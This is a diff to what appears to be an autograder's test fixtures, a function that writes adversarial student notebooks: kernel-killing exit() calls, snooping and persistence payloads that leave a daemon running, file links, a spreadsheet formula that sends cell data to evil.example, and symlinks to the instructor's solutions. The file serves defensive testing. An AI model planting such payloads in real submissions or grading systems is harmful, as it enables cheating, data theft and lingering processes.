@@ -325,7 +325,8 @@ def attacks(
     for c in partial.cells:
         if gid(c) == "ex01-2-check":
             c.source = "pass  # the student's edit"
-    write(partial, subs / "partial", chapter)
+    # ... saved after a run that failed, under another name
+    write(with_saved_errors(partial), subs / "partial", "my homework (final) 2.ipynb")
     # one kernel death or loop after another: each costs only its own exercise
     crashes = {
         "ex01-1-answer": "exit()\n",
@@ -346,11 +347,11 @@ def attacks(
         "ex01-5-answer": sol["ex01-5-answer"] + OBSERVE,
     }
     write(a(**snoop), subs / "snoops", "a.ipynb")
-    persist = sol["ex01-5-answer"] + OBSERVE + PERSIST.replace("TOKEN", token)
-    write(a(**{"ex01-5-answer": persist}), subs / "persist", chapter)
     # what reaches the feedback and the rubric sheet: file links in a written answer and in
-    # an output, In/Out/_ih printed, a flood of output, a formula in a written answer
+    # an output, In/Out/_ih printed, a flood of output, a formula in a written answer; and
+    # what outlives the kernel: a daemon in a new session, files in the temporary folders
     leaks = {
+        "ex01-9-answer": sol["ex01-9-answer"] + OBSERVE + PERSIST.replace("TOKEN", token),
         "ex01-6-written": LINKS_MD,
         "ex01-5-answer": sol["ex01-5-answer"] + LINKS_HTML,
         "ex01-7-answer": sol["ex01-7-answer"]
@@ -359,10 +360,9 @@ def attacks(
         "ex01-10-written": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     }
     write(a(**leaks), subs / "=leaks", chapter)
-    write(with_saved_errors(a()), subs / "renamed", "my homework (final) 2.ipynb")
-    write(a(), subs / "blank_beside", "01_overview-Copy1.ipynb")
-    write(nbformat.read(rel, as_version=4), subs / "blank_beside", chapter)  # newer, blank
-    write(a(**reseed_answers(sol, typed)), subs / "reseed_tricks", chapter)
+    # the answers in a copy, a blank notebook of the chapter's name saved beside it later
+    write(a(**reseed_answers(sol, typed)), subs / "reseed_tricks", "01_overview-Copy1.ipynb")
+    write(nbformat.read(rel, as_version=4), subs / "reseed_tricks", chapter)  # newer, blank
     (subs / "symlink_file").mkdir()
     (subs / "symlink_file" / chapter).symlink_to(instructor.resolve())
     (subs / "symlink_dir").symlink_to(subs / "correct", target_is_directory=True)
